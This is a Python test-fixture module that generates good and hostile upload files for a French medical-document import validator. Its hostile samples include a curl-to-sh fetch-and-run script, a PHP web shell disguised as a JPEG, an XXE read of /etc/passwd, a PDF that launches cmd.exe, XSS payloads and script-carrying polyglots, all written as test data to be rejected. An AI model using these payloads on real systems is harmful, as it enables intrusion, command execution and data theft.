"""Small files made on the fly: good ones of each accepted kind, and bad ones."""

import io
import zipfile

from PIL import Image

from cases.pdfgen import simple_pdf


def write_files(folder, files: dict[str, bytes]) -> list[str]:
    """Writes the files into `folder` (created) and returns their paths, for import_documents."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, content in files.items():
        (folder / name).write_bytes(content)
        paths.append(str(folder / name))
    return paths


def image_bytes(fmt: str, size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(buffer, format=fmt)
    return buffer.getvalue()


def good_files() -> dict[str, bytes]:
    return {
        "certificat.pdf": simple_pdf(["Certificat médical initial"]),
        "radio.jpg": image_bytes("JPEG"),
        "schema.png": image_bytes("PNG"),
        "scan.tiff": image_bytes("TIFF"),
    }


def bad_files() -> dict[str, bytes]:
    pdf = simple_pdf(["Compte rendu"])
    jpeg = image_bytes("JPEG", (400, 300))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("a.txt", "contenu")
    return {
        "vide.pdf": b"",
        "page.pdf": b"<html><script>alert(1)</script></html>",
        "programme.pdf": b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,
        "elf.jpg": b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        "dessin.png": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "archive.pdf": archive.getvalue(),
        "tronque.pdf": pdf[: len(pdf) // 2],
        "tronquee.jpg": jpeg[: len(jpeg) // 2],
        "entete-seul.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 30,
        "faux.tiff": b"II*\x00" + b"\xff" * 40,
        "texte.txt": b"Certificat en texte brut",
    }


def _zip(entries: dict[str, str]) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        for name, text in entries.items():
            zf.writestr(name, text)
    return archive.getvalue()


def _pdf_without_pages() -> bytes:
    from pypdf import PdfWriter

    buffer = io.BytesIO()
    PdfWriter().write(buffer)
    return buffer.getvalue()


def _encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf(["Secret"]))))
    writer.encrypt("mot-de-passe")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _active_pdf(kind: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(simple_pdf(["Certificat"]))))
    if kind == "attachment":
        writer.add_attachment("programme.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    data = buffer.getvalue()
    actions = {"launch": b"<< /S /Launch /F (cmd.exe) >>", "js": b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    if kind in actions:
        data = data.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction " + actions[kind], 1)
    return data


def _corrupt_png() -> bytes:
    png = bytearray(image_bytes("PNG", (120, 90)))
    start = png.index(b"IDAT") + 8
    png[start : start + 20] = b"\x00" * 20  # the compressed pixels no longer inflate
    return bytes(png)


def hostile_files() -> dict[str, bytes]:
    """At least 30 malformed or hostile files, each to be refused with a message naming it and
    nothing stored (OWASP ASVS V5.2). Harmless polyglots are in `harmless_polyglots`."""
    tiff = image_bytes("TIFF", (200, 150))
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    files = {
        **bad_files(),
        "dessin.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "archive.zip": _zip({"certificat.pdf": "x"}),
        "rapport.docx": _zip({"word/document.xml": "<w:document/>", "[Content_Types].xml": "<Types/>"}),
        "script.pdf": b"#!/bin/sh\ncurl http://example.invalid | sh\n",
        "page.html": b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
        "page-bom.pdf": b"\xef\xbb\xbf<!DOCTYPE html><script>alert(1)</script>",
        "webshell.jpg": b"<?php system($_GET['c']); ?>",
        "xxe.pdf": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "lettre.pdf": b"{\\rtf1\\ansi Certificat}",
        "eicar.pdf": eicar,
        "compresse.pdf": b"\x1f\x8b\x08\x00" + b"\x00" * 60,
        "archive7z.pdf": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60,
        "archive-rar.pdf": b"Rar!\x1a\x07\x00" + b"\x00" * 60,
        "macho.pdf": b"\xcf\xfa\xed\xfe" + b"\x00" * 60,
        "classe.jpg": b"\xca\xfe\xba\xbe" + b"\x00" * 60,
        "entete-pdf.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 4,
        "pdf-illisible.pdf": b"%PDF-1.4\n1 0 obj << /Type /Catalog >>\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        "sans-page.pdf": _pdf_without_pages(),
        "chiffre.pdf": _encrypted_pdf(),
        "polyglotte.gif": b"GIF89a/*\x00\x00\x00\x00*/=alert(1)//;",
        "unicode16.pdf": "Certificat médical".encode("utf-16"),
        "entete-seul.jpg": b"\xff\xd8\xff\xe0" + b"\x00" * 40,
        "pixels-corrompus.png": _corrupt_png(),
        "tronquee.tiff": tiff[: len(tiff) // 3],
        "image.bmp": image_bytes("BMP"),
        "image.webp": image_bytes("WEBP"),
        "image.gif": image_bytes("GIF"),
        "javascript.pdf": _active_pdf("js"),
        "piece-jointe.pdf": _active_pdf("attachment"),
        "lancement.pdf": _active_pdf("launch"),
    }
    assert len(files) >= 30
    return files


def harmless_polyglots() -> dict[str, bytes]:
    """Valid images carrying script or markup: harmless once stored, if never run by a browser."""
    jpeg = image_bytes("JPEG", (80, 60))
    return {
        "polyglotte.jpg": jpeg + b"<html><script>alert(document.cookie)</script></html>",
        "commentaire.png": image_bytes("PNG") + b"<?php echo 'x'; ?>",
    }
